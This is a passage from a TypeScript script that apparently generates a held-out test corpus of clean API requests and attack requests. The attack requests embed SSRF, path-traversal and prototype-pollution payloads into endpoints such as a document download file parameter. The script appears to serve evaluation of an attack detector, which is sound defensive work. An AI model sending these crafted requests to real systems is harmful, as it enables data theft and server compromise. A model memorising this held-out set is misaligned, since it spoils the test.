          'application/x-ndjson',
          `${lines.join('\n')}\n`,
        );
        continue;
      }
      const slot = SLOTS[(i * 7 + fams.indexOf(fam) * 3) % SLOTS.length];
      if (!slot) continue;
      const v = encodeVariant(payload, i);
      push(
        fam,
        v.tech === 'plain' ? slot.technique : `${slot.technique}+${v.tech}`,
        slot.method,
        slot.path,
        slot.ct,
        slot.build(v.p),
      );
    }
  }
  // SSRF
  const ssrf = PAYLOADS.ssrf ?? [];
  for (let i = 0; i < 30; i++) {
    const p = ssrf[i % ssrf.length] ?? '';
    if (i % 6 === 5) {
      push(
        'ssrf',
        'query-url-param',
        'GET',
        `/api/v1/widgets/preview?url=${encodeURIComponent(p)}&w=1920`,
        '',
        '',
      );
      continue;
    }
    const slot = URL_SLOTS[i % URL_SLOTS.length];
    if (slot) push('ssrf', slot.technique, slot.method, slot.path, slot.ct, slot.build(p));
  }
  // Path traversal
  const pt = PAYLOADS['path-traversal'] ?? [];
  for (let i = 0; i < 30; i++) {
    const p = pt[i % pt.length] ?? '';
    if (i % 6 === 5) {
      push(
        'path-traversal',
        'query-file-param',
        'GET',
        `/api/documents/download?file=${p.includes('%') ? p : encodeURIComponent(p)}`,
        '',
        '',
      );
      continue;
    }
    const slot = PATH_SLOTS[i % PATH_SLOTS.length];
    if (slot) push('path-traversal', slot.technique, slot.method, slot.path, slot.ct, slot.build(p));
  }
  // Prototype pollution
  for (let i = 0; i < 30; i++) {
    const b = PP_BODIES[i % PP_BODIES.length];
    if (!b) continue;
    const again = i >= PP_BODIES.length;
    const body = again && b.body.startsWith('{') ? `{"requestId":"r-${i}",${b.body.slice(1)}` : b.body;
    const path = again && !b.body ? `${b.path}&page=2` : b.path;
    push('prototype-pollution', b.technique, b.method, path, b.ct, body);
  }
  return out;
}

const clean = buildClean();
const attacks = buildAttacks();

/** Held-out corpus 23: clean API traffic of eight new domains and attacks hidden in JSON API payloads. */
export const heldout23: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean,
  attacks,
};

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const here = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(here, 'clean-heldout23.json'), `${JSON.stringify(clean, null, 2)}\n`);
  writeFileSync(join(here, 'attacks-heldout23.json'), `${JSON.stringify(attacks, null, 2)}\n`);
  const count = (xs: CorpusRequest[], key: 'kind' | 'family'): Record<string, number> => {
    const m: Record<string, number> = {};
    for (const x of xs) {
      const k = x[key] ?? '?';
      m[k] = (m[k] ?? 0) + 1;
    }
    return m;
  };
  console.log(`clean: ${clean.length}`, count(clean, 'kind'));
  console.log(`attacks: ${attacks.length}`, count(attacks, 'family'));
}
